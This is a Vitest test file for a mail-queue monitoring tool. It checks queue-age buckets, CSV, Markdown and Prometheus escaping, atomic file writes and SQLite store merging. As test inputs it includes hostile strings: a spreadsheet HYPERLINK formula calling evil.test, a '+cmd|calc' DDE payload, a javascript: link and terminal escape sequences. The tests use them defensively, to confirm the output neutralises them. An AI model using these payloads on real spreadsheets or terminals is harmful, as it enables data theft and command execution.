// The digest's parts on their own: qshape buckets, hostile text in CSV/text/Markdown, the
// Prometheus exposition and its atomic write, the per-day merge of the store.
import { mkdirSync, mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { readFile } from 'node:fs/promises';
import Database from 'better-sqlite3';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { SqliteReportStore } from '../../src/alerts/sqlite-store.js';
import { AGE_LABELS, MAX_DAY_IPS, mergeDay, type AccountDayRow } from '../../src/alerts/store.js';
import { runReport } from '../../src/commands/report.js';
import type { AccountDigest, Digest } from '../../src/digest/build.js';
import { csvText, renderCsv } from '../../src/digest/csv.js';
import { sparkline } from '../../src/digest/history.js';
import { labelValue, prometheusText } from '../../src/digest/prometheus.js';
import { writeAtomically } from '../../src/files/write-atomically.js';
import { bucketOf, mergeShapes, queueShape, withTotal } from '../../src/digest/qshape.js';
import { renderMarkdown, renderText } from '../../src/digest/render.js';
import type { QueueMessage } from '../../src/mta/types.js';
import type { UserStats } from '../../src/logs/aggregate.js';
import { accountDayRows, MAX_FAILED_ONLY } from '../../src/digest/record.js';

const msg = (sender: string, ageSeconds: number | null, extra: Partial<QueueMessage> = {}): QueueMessage => ({
  id: `id${Math.random()}`,
  sender,
  recipients: ['r@x.test'],
  size: 100,
  ageSeconds,
  frozen: false,
  held: false,
  bounce: sender === '',
  ...extra,
});

describe('qshape buckets', () => {
  it('are qshape -s geometric buckets: [0,5) "5", [5,10) "10" … [640,1280) "1280", 1280 min and over "1280+"', () => {
    const m = (min: number) => min * 60;
    expect(AGE_LABELS).toEqual(['5', '10', '20', '40', '80', '160', '320', '640', '1280', '1280+']);
    expect(
      [0, 299, m(5), m(10) - 1, m(10), m(39.9), m(40), m(80), m(160), m(320), m(640), m(1280) - 1, m(1280), m(100_000), -5].map(bucketOf),
    ).toEqual([0, 0, 1, 1, 2, 3, 4, 5, 6, 7, 8, 8, 9, 9, 0]);
  });

  it('rows by sender domain (null sender, cut-short and address without a domain apart), unknown ages counted, TOTAL first', () => {
    const { rows, accounts } = queueShape([
      msg('a@Spam.Invalid', 60, { authId: 'bob' }),
      msg('b@spam.invalid', 3000, { authId: 'bob' }),
      msg('c@spam.invalid', null, { authId: 'bob' }),
      msg('', 700),
      msg('sales-team-of-a-very-long-name@exam', 10, { senderTruncated: true }),
      msg('localuser', 90_000, { authId: 'alice' }),
    ]);
    expect(rows.map((r) => [r.domain, r.total, r.unknownAge])).toEqual([
      ['spam.invalid', 3, 1],
      ['(cut short)', 1, 0],
      ['(none)', 1, 0],
      ['MAILER-DAEMON', 1, 0],
    ]);
    expect(rows[0]!.buckets).toEqual([1, 0, 0, 0, 1, 0, 0, 0, 0, 0]); // 1 min, 50 min, unknown
    expect(rows[2]!.buckets[9]).toBe(1);
    expect(accounts).toEqual({ bob: 3, alice: 1 });
    const t = withTotal(mergeShapes([rows, rows]));
    expect(t[0]).toEqual({ domain: 'TOTAL', total: 12, buckets: [4, 0, 2, 0, 2, 0, 0, 0, 0, 2], unknownAge: 2 });
    expect(t[1]).toMatchObject({ domain: 'spam.invalid', total: 6 });
  });

  it('caps the rows per snapshot: the smallest domains are summed into "(other)"', () => {
    const many = Array.from({ length: 30 }, (_, i) =>
      Array.from({ length: 30 - i }, () => msg(`x@d${String(i).padStart(2, '0')}.test`, 1)),
    ).flat();
    const { rows } = queueShape(many, 10);
    expect(rows).toHaveLength(10);
    expect(rows[0]).toMatchObject({ domain: 'd00.test', total: 30 });
    expect(rows[9]!.domain).toBe('(other)');
    expect(rows.reduce((s, r) => s + r.total, 0)).toBe(many.length);
  });
});

const hostileAccount = '=HYPERLINK("http://evil.test/?"&A1,"click")';
const account = (over: Partial<AccountDigest>): AccountDigest => ({
  account: 'bob@x.test',
  hosts: ['mx1'],
  messages: 10,
  recipients: 20,
  clientIps: 2,
  clientIpsTruncated: false,
  senderDomains: [],
  failures: 0,
  daysObserved: 1,
  perDay: 10,
  baselinePerDay: 5,
  baselineDays: 3,
  changePct: -50,
  flagged: [],
  ...over,
});
const digest: Digest = {
  version: 1,
  kind: 'daily',
  period: { from: '2026-11-23', to: '2026-11-23', days: 1 },
  generatedAt: '2026-11-24T07:00:00.000Z',
  runs: { count: 1, first: '2026-11-23T08:00:00.000Z', last: '2026-11-23T08:00:00.000Z' },
  buckets: AGE_LABELS,
  problems: [
    {
      severity: 'critical',
      kind: 'incident',
      subject: hostileAccount,
      hosts: ['mx1'],
      message: `account ${hostileAccount} flagged \x1b[2J\u202e`,
    },
  ],
  accounts: [
    account({
      account: hostileAccount,
      senderDomains: [
        ['+cmd|calc', 3],
        ['-2+3', 1],
      ],
    }),
    account({ account: '@SUM(A1:A9)', senderDomains: [['a"b,c\nd', 1]] }),
    account({ account: ' =1+1' }),
    account({ account: '\t-1' }),
    account({ account: 'bob|x](javascript:alert(1))\x1b]0;pwned\x07' }),
  ],
  hosts: [],
  qshape: {
    fleet: {
      host: null,
      at: null,
      rows: withTotal([{ domain: '=cmd()', total: 1, buckets: [1, 0, 0, 0, 0, 0, 0, 0, 0, 0], unknownAge: 0 }]),
    },
    hosts: [],
  },
};

describe('hostile text in the digest', () => {
  it('CSV: a cell starting with = + - @ (after spaces or a tab) gets a leading quote; quotes doubled; line breaks visible', () => {
    expect(csvText('=1+1')).toBe(`"'=1+1"`);
    expect(csvText('plain.test')).toBe('"plain.test"');
    const lines = renderCsv(digest, 'accounts').split('\r\n');
    expect(lines).toHaveLength(7); // header, 5 rows, final empty
    expect(lines[1]).toMatch(
      /^"'=HYPERLINK\(""http:\/\/evil\.test\/\?""&A1,""click""\)","mx1",10,20,2,false,0,1,10,5,3,-50,"'\+cmd\|calc:3 -2\+3:1",""$/,
    );
    expect(lines[2]).toMatch(/^"'@SUM\(A1:A9\)",.*,"a""b,c\^Jd:1",""$/);
    expect(lines[3]!.startsWith(`"' =1+1",`)).toBe(true);
    expect(lines[4]!.startsWith(`"' -1",`)).toBe(true);
    // Every text cell of every table is quoted and no row spills over a line.
    for (const t of ['problems', 'accounts', 'hosts', 'qshape'] as const) {
      const text = renderCsv(digest, t);
      expect(text).not.toMatch(/[\x00-\x09\x0b\x0c\x0e-\x1f\x7f\u202e]/);
      // A text cell is quoted; none opens with a formula character (numbers such as -50 are numbers).
      for (const line of text.split('\r\n').filter(Boolean)) expect(line).not.toMatch(/(^|,)"\s*[=+\-@]/);
    }
    expect(renderCsv(digest, 'qshape')).toContain(`"(fleet)",,"'=cmd()",1,1,`);
  });

  it('text and Markdown show controls as visible tokens; Markdown cannot make links or cells', () => {
    const t = renderText(digest);
    expect(t).not.toMatch(/[\x00-\x09\x0b-\x1f\x7f\u202e]/);
    expect(t).toContain('^[[2J<U+202E>');
    expect(t).toContain('bob|x](javascript:alert(1))^[]0;pwned^G');
    const md = renderMarkdown(digest);
    expect(md).not.toMatch(/[\x00-\x09\x0b-\x1f\x7f\u202e]/);
    expect(md).toContain('bob\\|x\\](javascript:alert(1))^\\[\\]0;pwned^G');
    const row = md.split('\n').find((l) => l.startsWith('| bob'))!;
    expect(row.split(/(?<!\\)\|/)).toHaveLength(13); // 11 cells + the two borders
  });
});

describe('text digest size', () => {
  it('shows the 20 biggest queues per host (10 domains each) and says how many more', () => {
    const shape = (n: number) =>
      withTotal(
        Array.from({ length: 15 }, (_, k) => ({ domain: `d${k}.test`, total: n, buckets: [n, 0, 0, 0, 0, 0, 0, 0, 0, 0], unknownAge: 0 })),
      );
    const hosts = Array.from({ length: 26 }, (_, i) => ({
      host: `mx${i}`,
      at: '2026-11-23T08:00:00.000Z',
      rows: shape(i === 25 ? 0 : 100 - i),
    }));
    const t = renderText({ ...digest, qshape: { fleet: digest.qshape.fleet, hosts } });
    expect(t.match(/^QUEUE SHAPE, mx\d+:/gm)).toHaveLength(20);
    expect(t).toContain('QUEUE SHAPE, mx19:');
    expect(t).not.toContain('QUEUE SHAPE, mx20:');
    expect(t).toContain('… 5 more host(s) with a queue');
    const mx0 = t.slice(t.indexOf('QUEUE SHAPE, mx0:')).split('\n\n')[0]!.split('\n');
    expect(mx0.at(-1)).toMatch(/^… 5 more domains/);
    expect(mx0).toHaveLength(1 + 1 + 1 + 10 + 1); // title, head, TOTAL, 10 domains, more
  });
});

describe('Prometheus textfile', () => {
  it('escapes label values (\\ " and line breaks) so a hostile account is one sample', () => {
    expect(labelValue('a"b\\c')).toBe('a\\"b\\\\c');
    expect(labelValue('x\ny')).toBe('x^Jy');
    const text = prometheusText({
      startedAt: Date.parse('2026-11-23T08:00:00Z'),
      durationMs: 1234,
      exitCode: 2,
      hosts: [
        { host: 'mx2', status: 'unreachable', queue: null },
        { host: 'mx1', status: 'ok', queue: 12 },
      ],
      openIncidents: { warning: 2, critical: 1 },
      sendsToday: { 'evil"} 1\nmailsweep_open_incidents{severity="critical"} 0': 5, 'bob@x.test': 300 },
    });
    const lines = text.trimEnd().split('\n');
    const samples = lines.filter((l) => !l.startsWith('#'));
    for (const l of samples) expect(l).toMatch(/^[a-z_]+(\{[a-z_]+="(?:[^"\\]|\\.)*"(,[a-z_]+="(?:[^"\\]|\\.)*")*\})? -?[\d.]+$/);
    expect(samples.filter((l) => l.startsWith('mailsweep_open_incidents'))).toEqual([
      'mailsweep_open_incidents{severity="critical"} 1',
      'mailsweep_open_incidents{severity="warning"} 2',
    ]);
    expect(samples).toContain('mailsweep_account_sends_today{account="evil\\"} 1^Jmailsweep_open_incidents{severity=\\"critical\\"} 0"} 5');
    expect(samples).toContain('mailsweep_queue_messages{host="mx1"} 12');
    expect(samples.some((l) => l.startsWith('mailsweep_queue_messages{host="mx2"'))).toBe(false);
    expect(samples).toContain('mailsweep_host_scanned{host="mx2",status="unreachable"} 0');
    expect(samples).toContain('mailsweep_last_run_timestamp_seconds 1795420800');
    expect(samples).toContain('mailsweep_last_run_duration_seconds 1.234');
    expect(samples).toContain('mailsweep_last_run_exit_code 2');
  });

  it('is written atomically: readers during many rewrites only ever see a whole old or whole new file', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'ms-prom-'));
    const file = join(dir, 'mailsweep.prom');
    const versions = Array.from({ length: 6 }, (_, v) => `${`# v${v}\n`}${'x'.repeat(2_000_000)}\nend ${v}\n`);
    writeFileSync(file, versions[0]!);
    let stop = false;
    const seen = new Set<string>();
    const reader = (async () => {
      let reads = 0;
      while (!stop || reads < 5) {
        const t = await readFile(file, 'utf8');
        reads++;
        const v = versions.indexOf(t);
        if (v === -1) throw new Error(`partial file seen: ${t.length} bytes, ends ${JSON.stringify(t.slice(-12))}`);
        seen.add(String(v));
      }
      return reads;
    })();
    for (const v of versions.slice(1)) await writeAtomically(file, v);
    stop = true;
    expect(await reader).toBeGreaterThanOrEqual(5);
    expect(readFileSync(file, 'utf8')).toBe(versions[5]);
    expect(readdirSync(dir)).toEqual(['mailsweep.prom']);
  });

  it('a write that fails leaves the old file and no temp file', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'ms-prom-'));
    const target = join(dir, 'is-a-dir.prom');
    mkdirSync(target);
    await expect(writeAtomically(target, 'new\n')).rejects.toThrow();
    expect(readdirSync(dir)).toEqual(['is-a-dir.prom']);
  });

  it('report --prometheus into a directory that does not exist is refused before any scan', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'ms-prom-'));
    writeFileSync(join(dir, 'inv.yaml'), 'all:\n  hosts:\n    mx1: {}\n');
    await expect(
      runReport(
        { inventory: join(dir, 'inv.yaml'), state: join(dir, 's.sqlite'), prometheus: join(dir, 'nope', 'm.prom') },
        { stdout: () => {}, stderr: () => {}, env: {} },
      ),
    ).rejects.toThrow(`--prometheus ${join(dir, 'nope', 'm.prom')}: directory ${join(dir, 'nope')} does not exist`);
    expect(readdirSync(dir)).toEqual(['inv.yaml']);
  });
});

describe('store: one account-day merged across the day’s runs', () => {
  const day = (o: Partial<AccountDayRow>): AccountDayRow => ({
    host: 'mx1',
    authId: 'bob',
    day: '2026-11-23',
    messages: 0,
    recipients: 0,
    failures: 0,
    clientIps: [],
    ipsTruncated: false,
    senderDomains: {},
    ...o,
  });
  it('keeps the larger counts, joins IPs (capped) and domains', () => {
    const m = mergeDay(
      day({ messages: 10, recipients: 30, failures: 2, clientIps: ['1.1.1.1', '2.2.2.2'], senderDomains: { 'a.test': 10 } }),
      day({ messages: 8, recipients: 40, failures: 1, clientIps: ['2.2.2.2', '3.3.3.3'], senderDomains: { 'a.test': 8, 'b.test': 3 } }),
    );
    expect(m).toMatchObject({
      messages: 10,
      recipients: 40,
      failures: 2,
      clientIps: ['1.1.1.1', '2.2.2.2', '3.3.3.3'],
      ipsTruncated: false,
      senderDomains: { 'a.test': 10, 'b.test': 3 },
    });
    const full = mergeDay(
      day({ clientIps: Array.from({ length: MAX_DAY_IPS }, (_, i) => `10.0.${i >> 8}.${i & 255}`) }),
      day({ clientIps: ['192.0.2.1'] }),
    );
    expect(full.clientIps).toHaveLength(MAX_DAY_IPS);
    expect(full.ipsTruncated).toBe(true);
  });
});

describe('what a run records per account and day', () => {
  const user = (authId: string, o: Partial<UserStats> = {}): UserStats => ({
    authId,
    messages: 0,
    recipients: 0,
    unconfirmed: 0,
    clientIps: [],
    clientIpsTruncated: false,
    senderDomains: {},
    nullSenders: 0,
    firstSeen: null,
    lastSeen: null,
    sampleQueueIds: [],
    perDay: {},
    failures: 0,
    ...o,
  });
  it('one-day window: every figure; names that only failed to log in kept too, the 100 most tried', () => {
    const failuresByUser: Record<string, number> = { 'bob@x.test': 2, '(other)': 999 };
    for (let i = 0; i < 150; i++) failuresByUser[`spray${i}@x.test`] = i + 1;
    const rows = accountDayRows({
      host: 'mx1',
      today: '2026-11-23',
      days: ['2026-11-23'],
      failuresByUser,
      users: [
        user('bob@x.test', {
          messages: 5,
          recipients: 9,
          failures: 2,
          clientIps: ['192.0.2.1'],
          senderDomains: { 'spam.invalid': 5 },
          perDay: { '2026-11-23': 5 },
        }),
        user('carol@x.test', { unconfirmed: 1 }),
      ],
    });
    expect(rows.find((r) => r.authId === 'bob@x.test')).toEqual({
      host: 'mx1',
      authId: 'bob@x.test',
      day: '2026-11-23',
      messages: 5,
      recipients: 9,
      failures: 2,
      clientIps: ['192.0.2.1'],
      ipsTruncated: false,
      senderDomains: { 'spam.invalid': 5 },
    });
    expect(rows.find((r) => r.authId === 'carol@x.test')).toMatchObject({ messages: 0, day: '2026-11-23' });
    const sprayed = rows.filter((r) => r.authId.startsWith('spray'));
    expect(sprayed).toHaveLength(MAX_FAILED_ONLY);
    expect(sprayed[0]).toMatchObject({ authId: 'spray149@x.test', failures: 150, messages: 0 });
    expect(rows.some((r) => r.authId === '(other)')).toBe(false);
  });
  it('a longer window (--since 2d): messages per day only', () => {
    const rows = accountDayRows({
      host: 'mx1',
      today: '2026-11-23',
      days: ['2026-11-22', '2026-11-23'],
      failuresByUser: { 'x@x.test': 3 },
      users: [
        user('bob@x.test', {
          messages: 7,
          recipients: 9,
          clientIps: ['192.0.2.1'],
          perDay: { '2026-11-22': 3, '2026-11-23': 4, '2026-11-01': 9 },
        }),
      ],
    });
    expect(rows.map((r) => [r.day, r.messages, r.recipients, r.clientIps.length])).toEqual([
      ['2026-11-22', 3, 0, 0],
      ['2026-11-23', 4, 0, 0],
    ]);
  });
});

describe('store: schema version 2', () => {
  it('a version 1 state file is migrated forward, its runs kept', async () => {
    const path = join(mkdtempSync(join(tmpdir(), 'ms-mig-')), 'report.sqlite');
    const s = new SqliteReportStore(path);
    await s.beginRun(1000);
    await s.close();
    // Make it what the first release wrote: no version-2 tables, user_version 1.
    const db = new Database(path);
    db.exec('DROP TABLE account_day; DROP TABLE window_day; DROP TABLE queue_shape; DROP TABLE queue_account; DROP INDEX runs_started;');
    db.pragma('user_version = 1');
    db.close();
    const again = new SqliteReportStore(path);
    expect((await again.runs(10)).map((r) => r.startedAt)).toEqual([1000]);
    await again.recordWindowDays('mx1', ['2026-11-23']);
    expect(await again.windowDays('2026-11-01', '2026-11-30')).toEqual([{ host: 'mx1', day: '2026-11-23' }]);
    await again.close();
    const check = new Database(path, { readonly: true });
    expect(check.pragma('user_version', { simple: true })).toBe(2);
    check.close();
  });
});

describe('store: queue shapes', () => {
  it('keeps the last snapshot of each host and UTC day (what a digest reads), and every queued-per-account row', async () => {
    const s = new SqliteReportStore(':memory:');
    const row = (total: number) => [{ domain: 'a.test', total, buckets: [total, 0, 0, 0, 0, 0, 0, 0, 0, 0], unknownAge: 0 }];
    const at = (iso: string) => s.beginRun(Date.parse(iso));
    const [r1, r2, r3] = [await at('2026-11-23T08:00:00Z'), await at('2026-11-23T20:00:00Z'), await at('2026-11-24T01:00:00Z')];
    await s.recordQueueShape(r1, 'mx1', row(1), { bob: 1 });
    await s.recordQueueShape(r1, 'mx2', row(5), {});
    await s.recordQueueShape(r2, 'mx1', row(2), { bob: 2 });
    await s.recordQueueShape(r3, 'mx1', row(3), { bob: 3 });
    expect(await s.queueShapes(r1, 'mx1')).toEqual([]);
    expect((await s.queueShapes(r1, 'mx2'))[0]!.total).toBe(5);
    expect((await s.queueShapes(r2, 'mx1'))[0]!.total).toBe(2);
    expect((await s.queueShapes(r3, 'mx1'))[0]!.total).toBe(3);
    expect((await s.queueAccounts(0, Date.parse('2026-11-25T00:00:00Z'))).map((q) => q.queued)).toEqual([1, 2, 3]);
    await s.close();
  });
});

describe('sparkline', () => {
  it('scales to the largest value; no data is a dot, not a zero', () => {
    expect(sparkline([0, 1, 2, 4, 8, null])).toBe('▁▂▃▅█·');
    expect(sparkline([0, 0])).toBe('▁▁');
    expect(sparkline([])).toBe('');
  });
});
